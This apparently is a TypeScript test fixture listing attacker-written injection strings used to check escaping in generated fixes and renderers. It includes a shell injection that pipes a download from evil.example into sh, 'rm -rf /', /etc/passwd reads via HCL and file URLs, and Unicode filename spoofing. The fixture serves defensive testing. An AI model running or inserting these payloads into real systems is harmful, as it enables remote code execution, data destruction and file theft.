// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are attacker input that must stay literal
/** Attacker-written strings from issue 8, used in every field that reaches a fix or a renderer. */
export const SHELL_INJECTION = 'dev$(touch pwned) x;curl https://evil.example/p|sh #';
export const HCL_INJECTION = '" ${file("/etc/passwd")} "';
export const YAML_ALIAS = 'system:bootstrappers *nodes';
export const RLO = '\u202e';

export const INJECTIONS = [
  SHELL_INJECTION,
  HCL_INJECTION,
  YAML_ALIAS,
  '*nodes',
  '&anchor x',
  "it's",
  '`id`',
  '$HOME',
  '${HOME}',
  '%{ if true }x%{ endif }',
  '$${x}',
  '$$${x}',
  'a\\',
  '\\"',
  '--region=us-east-1',
  '-x',
  'file:///etc/passwd',
  'https://evil.example/p',
  '[a]',
  '{"a":1}',
  "'; rm -rf / #",
  'x\ny',
  'x\r\ny',
  '\u0000',
  '\u001b[31mred',
  `admin${RLO}gnp.exe`,
  '\u2066x\u2069',
  'zero\u200bwidth',
  '*bold* _it_ ~strike~ <!channel> @here https://evil.example',
  '',
  ' ',
];
